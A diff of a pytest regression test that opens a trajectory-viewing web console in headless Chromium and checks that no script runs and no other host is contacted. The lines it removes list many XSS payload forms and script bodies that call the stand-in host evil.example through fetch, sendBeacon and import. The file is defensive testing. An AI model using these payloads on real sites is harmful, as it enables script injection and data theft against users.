@@ -1,160 +1,23 @@
 """Chromium opens the console's pages over 500 hostile payloads: no script runs, nobody else is asked."""
 
-import http.server
-import shutil
-import subprocess
-import threading
-from collections.abc import Iterator
-from itertools import product
 from pathlib import Path
-from typing import Any
 
 import pytest
-from starlette.types import ASGIApp, Receive, Scope, Send
 
-from headrace.app.context import AppContext
-from headrace.app.settings import ConsoleSettings
-from headrace.console.app import application
-from headrace.console.page import Console
-from headrace.console.sessions import SessionStore
-from headrace.console.sign_in import COOKIE
-from headrace.console.users import TrustedProxies, local_user
-from headrace.services.sql_server import sql_service
-from tests.train.lakes import Session, lake_of
-from trajectory.http_server import HttpServer
+from tests.support.hostile_pages import chromium_path, open_hostile_pages, payloads
 
 pytestmark = [pytest.mark.slow, pytest.mark.timeout(600)]
 
-_SESSIONS = 4
-_SCRIPTS = (
-    "document.title='RAN';fetch('http://evil.example/ran')",
-    "new Image().src='http://evil.example/ran';document.title='RAN'",
-    "location='http://evil.example/ran'",
-    "navigator.sendBeacon('http://evil.example/ran');document.title='RAN'",
-    "import('http://evil.example/ran.js');document.title='RAN'",
-)
-_FORMS = (
-    "<script>{0}</script>", "\"><script>{0}</script>", "'><script>{0}</script>", "<img src=x onerror=\"{0}\">",
-    "<svg/onload=\"{0}\">", "<svg><script>{0}</script></svg>", "</title><script>{0}</script>",
-    "</textarea><script>{0}</script>", "</pre></details></li><script>{0}</script>", "<body onload=\"{0}\">",
-    "<iframe srcdoc=\"<script>{0}</script>\"></iframe>", "<iframe src=\"javascript:{0}\"></iframe>",
-    "<details open ontoggle=\"{0}\">", "<input autofocus onfocus=\"{0}\">", "<video src=x onerror=\"{0}\">",
-    "<object data=\"javascript:{0}\"></object>", "<marquee onstart=\"{0}\">x</marquee>", "<!--><script>{0}</script>",
-    "<math><mtext><script>{0}</script></mtext></math>", "<EMAIL_ADDRESS_ab12cd34><script>{0}</script>",
-    "<PERSON_ab12cd34\" onfocus=\"{0}\" autofocus tabindex=0>", "<a href=\"javascript:{0}\" autofocus>x</a>",
-    "<select autofocus onfocus=\"{0}\">", "<style onload=\"{0}\"></style>", "<template><script>{0}</script></template>",
-    "\u202e<script>{0}</script>", "<scr\x00ipt>{0}</script>", "<![CDATA[<script>{0}</script>]]>",
-    "<form><button formaction=\"javascript:{0}\" autofocus>x</button></form>", "<audio src onerror=\"{0}\">",
-    "{{{{ '<script>{0}</script>' | safe }}}}", "{{% raw %}}<script>{0}</script>", "<link rel=preload href=x onerror=\"{0}\">",
-    "<noscript><p title=\"</noscript><script>{0}</script>\">", "<xmp><p title=\"</xmp><script>{0}</script>\">",
-)  # fmt: skip
-_LOADS = (
-    "<img src={0}>", "<link rel=stylesheet href={0}>", "<style>@import '{0}';</style>", "<script src={0}></script>",
-    "<iframe src={0}></iframe>", "<object data={0}></object>", "<embed src={0}>", "<video src={0} autoplay></video>",
-    "<base href={0}>", "<meta http-equiv=refresh content='0;url={0}'>", "<link rel=icon href={0}>",
-    "<div style=\"background:url({0})\">x</div>", "<svg><image href={0} /></svg>", "<link rel=prefetch href={0}>",
-    "<picture><source srcset={0}><img></picture>", "<input type=image src={0}>", "<body background={0}>",
-    "<track src={0}>", "<frameset><frame src={0}></frameset>", "<table background={0}><tr><td>x</table>",
-)  # fmt: skip
-_PLACES = tuple(
-    f"{scheme}//evil{number}.example/{kind}"
-    for scheme, number, kind in product(("http:", ""), range(5), ("a.png", "b.css"))
-)
 
-
-def payloads() -> list[str]:
-    """Return 500 texts that would run a script, or ask another host, where they were taken as HTML."""
-    made = [form.format(script) for form, script in product(_FORMS, _SCRIPTS)]
-    made += [load.format(place) for place, load in product(_PLACES, _LOADS)]
-    return made[:500]
-
-
-@pytest.fixture
-def stranger() -> Iterator[tuple[int, list[str]]]:
-    """Another host, to which each name leads; it says which pages were asked of it."""
-    asked: list[str] = []
-
-    class Answer(http.server.BaseHTTPRequestHandler):
-        def do_GET(self) -> None:
-            asked.append(self.path)
-            body = f"<title>no</title>{payloads()[0]}".encode()
-            self.send_response(200)
-            self.send_header("content-type", "text/html")
-            self.send_header("content-length", str(len(body)))
-            self.end_headers()
-            self.wfile.write(body)
-
-        def do_POST(self) -> None:
-            self.do_GET()
-
-        def log_message(self, *_: Any) -> None: ...
-
-    with http.server.ThreadingHTTPServer(("127.0.0.1", 0), Answer) as server:
-        thread = threading.Thread(target=server.serve_forever)
-        thread.start()
-        yield server.server_port, asked
-        server.shutdown()
-        thread.join()
-
-
-def page_of(chromium: str, folder: Path, url: str, stranger: int) -> str:
-    """Return what Chromium makes of a page, after its scripts."""
-    command = [
-        chromium, "--headless", "--no-sandbox", "--disable-gpu", "--disable-quic", "--no-first-run",
-        "--disable-background-networking", "--disable-component-update", "--disable-sync",
-        "--disable-dev-shm-usage", f"--user-data-dir={folder}", "--virtual-time-budget=3000",
-        f"--host-resolver-rules=MAP *.example 127.0.0.1:{stranger}", "--dump-dom", url,
-    ]  # fmt: skip
-    done = subprocess.run(command, capture_output=True, text=True, timeout=240, check=True)
-    return done.stdout
-
-
-def test_nothing_captured_runs_in_a_browser_or_asks_another_host(
-    tmp_path: Path, stranger: tuple[int, list[str]]
-) -> None:
-    chromium = shutil.which("chromium") or shutil.which("chromium-browser")
+def test_nothing_captured_runs_in_a_browser_or_asks_another_host(tmp_path: Path) -> None:
+    chromium = chromium_path()
     if chromium is None:
         pytest.skip("chromium is not installed: apt-get install chromium")
-    port, asked = stranger
-    made = payloads()
-    assert len({*made}) == 500
-    control = page_of(chromium, tmp_path / "control", "http://control.example/", port)
-    assert "<title>RAN</title>" in control, "the browser runs scripts where a page lets it"
-    assert "/ran" in asked
-    asked.clear()
-
-    sessions = [
-        Session(number, question="\n".join(made[number::_SESSIONS]), answer=made[number])
-        for number in range(_SESSIONS)
-    ]
-    lake_of(tmp_path / "home" / "lake", *sessions)
-    running = AppContext(tmp_path / "home", debug=False)
-    running.home.create()
-    service = sql_service(running.settings, running.home, running.secrets, running.lake)
-    store = SessionStore(running.home.sessions, idle_seconds=900, longest_seconds=900)
-    console = Console(running, service, store, TrustedProxies(ConsoleSettings()))
-    cookie = f"{COOKIE}={store.begin(local_user('root'))}".encode()
-    try:
-        with HttpServer(
-            _signed_in(application(console), cookie), host="127.0.0.1", port=0
-        ) as server:
-            for number, view in product(range(_SESSIONS), ("", "?view=steps")):
-                place = f"http://127.0.0.1:{server.port}/trajectories/t{number:05d}{view}"
-                page = page_of(chromium, tmp_path / f"{number}{view[:1]}", place, port)
-                assert "<title>Trajectory" in page
-                assert "<script" not in page.lower()
-                assert view or page.count("evil") >= 500 / _SESSIONS, "the payloads are there"
-    finally:
-        console.close()
-    assert asked == []
-
-
-def _signed_in(app: ASGIApp, cookie: bytes) -> ASGIApp:
-    """Return an application that whoever asks is signed in to."""
-
-    async def signed_in(scope: Scope, receive: Receive, send: Send) -> None:
-        if scope["type"] == "http":
-            scope = {**scope, "headers": [*scope["headers"], (b"cookie", cookie)]}
-        await app(scope, receive, send)
-
-    return signed_in
+    assert len({*payloads()}) == 500
+    opened = open_hostile_pages(tmp_path / "home", chromium)
+    assert (opened.scripts_run, opened.foreign_requests) == (0, 0)
+    assert len(opened.pages) == 10
+    for page in opened.pages:
+        assert "<script" not in page.lower()
+    shown = [page for page in opened.pages[:8:2] if "<title>Trajectory" in page]
+    assert [page.count("evil") >= 500 / 4 for page in shown] == [True] * 4, "the payloads are there"
